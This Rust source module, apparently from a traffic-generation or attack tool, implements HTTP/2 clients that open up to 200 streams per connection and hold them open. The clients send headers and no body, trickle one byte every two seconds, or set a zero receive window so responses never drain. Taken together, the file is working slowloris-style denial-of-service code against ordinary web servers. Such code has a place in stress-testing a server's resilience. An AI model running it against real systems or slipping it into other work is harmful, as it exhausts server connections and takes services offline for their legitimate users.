//! Clients that keep many streams of HTTP/2 open on each of their connections.
use std::{pin::pin, sync::Arc, time::Duration};

use bytes::Bytes;
use h2::{
    Ping, SendStream,
    client::{Builder, ResponseFuture, SendRequest},
};
use http::Request;
use tokio::{
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout},
};

use super::field::Field;

/// The most streams of a connection.
const MAX_STREAMS: usize = 200;

/// How often a client that sends one byte now and then does so.
const TRICKLE: Duration = Duration::from_secs(2);

/// What clients do with each of their streams.
pub(super) struct Streams {
    /// What they ask, in turns.
    pub requests: Vec<(Request<()>, Bytes)>,
    pub habit: Habit,
}

#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Habit {
    /// They send the head, and no body.
    Silent,
    /// They send the head, and a byte of the body now and then.
    Trickle,
    /// They send the whole request, and have no room for the answer's body.
    NotReading,
}

/// Opens a connection with as many streams as the server allows, again and again.
pub(super) async fn keep_open(field: Arc<Field>, streams: Arc<Streams>) {
    while !field.is_over() {
        if let Some(stream) = field.connect(None).await {
            connection(&field, &streams, stream).await;
        }
        field.pause().await;
    }
}

/// One connection, until the server closes it or, once the attack is over, all its streams have ended.
async fn connection(field: &Arc<Field>, streams: &Arc<Streams>, stream: TcpStream) {
    let hold = field.connections.open();
    let mut builder = Builder::new();
    if streams.habit == Habit::NotReading {
        builder.initial_window_size(0);
    }
    let Ok((sender, mut connection)) = builder.handshake::<_, Bytes>(stream).await else {
        return hold.ended();
    };
    let ping = connection.ping_pong();
    let all = async {
        // How many streams are allowed is in the server's first frame, which comes before its answer to a ping.
        if let Some(mut ping) = ping {
            match timeout(field.limit, ping.ping(Ping::opaque())).await {
                Ok(Ok(_)) => {}
                Ok(Err(_)) => return true,
                Err(_) => return false,
            }
        }
        let mut slots = JoinSet::new();
        for index in 0..sender.current_max_send_streams().min(MAX_STREAMS) {
            let (field, streams) = (Arc::clone(field), Arc::clone(streams));
            slots.spawn(slot(field, streams, sender.clone(), index));
        }
        while slots.join_next().await.is_some() {}
        true
    };
    let mut all = pin!(all);
    tokio::select! {
        biased;
        _ = &mut connection => {
            hold.ended();
            // So that all streams know.
            drop(connection);
            all.await;
        }
        in_time = &mut all => {
            if !in_time {
                hold.outlived();
            }
        }
    }
}

/// One stream after the other.
async fn slot(
    field: Arc<Field>,
    streams: Arc<Streams>,
    sender: SendRequest<Bytes>,
    mut index: usize,
) {
    while !field.is_over() {
        let ready = field.until_over(sender.clone().ready()).await;
        let Some(Ok(mut ready)) = ready else { return };
        let turn = index.checked_rem(streams.requests.len());
        let Some((request, body)) = turn.and_then(|turn| streams.requests.get(turn)) else {
            return;
        };
        index += 1;
        let whole = streams.habit == Habit::NotReading;
        let sent = ready.send_request(request.clone(), whole && body.is_empty());
        let Ok((answer, mut stream)) = sent else {
            return;
        };
        let ended = async {
            if whole && !body.is_empty() && stream.send_data(body.clone(), true).is_err() {
                return;
            }
            let answered = answered(&field, answer);
            match streams.habit {
                Habit::Trickle => tokio::select! {
                    () = answered => {}
                    () = trickle(&mut stream) => {}
                },
                Habit::Silent | Habit::NotReading => answered.await,
            }
        };
        field.streams.hold(field.limit, ended).await;
        field.pause().await;
    }
}

/// Until the answer has ended, or the stream is reset.
async fn answered(field: &Field, answer: ResponseFuture) {
    let Ok(answer) = answer.await else { return };
    field.streams.answered(answer.status().as_u16());
    let mut body = answer.into_body();
    while let Some(Ok(bytes)) = body.data().await {
        // What comes nevertheless must not fill the connection's window, which all its streams share.
        if body.flow_control().release_capacity(bytes.len()).is_err() {
            return;
        }
    }
}

/// Until the stream takes no more.
async fn trickle(stream: &mut SendStream<Bytes>) {
    while stream.send_data(Bytes::from_static(b"x"), false).is_ok() {
        sleep(TRICKLE).await;
    }
}
